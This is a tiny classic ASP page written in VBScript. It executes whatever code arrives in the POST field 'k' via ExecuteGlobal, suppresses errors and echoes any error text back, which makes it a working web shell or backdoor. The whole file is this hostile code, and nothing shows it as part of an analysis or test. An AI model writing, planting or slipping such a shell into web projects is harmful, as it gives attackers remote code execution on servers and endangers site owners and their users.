<%@ Language=VBScript inert %>
<% On Error Resume Next
   Session.CodePage = 65001
   ExecuteGlobal Request.Form.Item("k").Item(1)
   If Err Then Response.Write Err.Description
%>
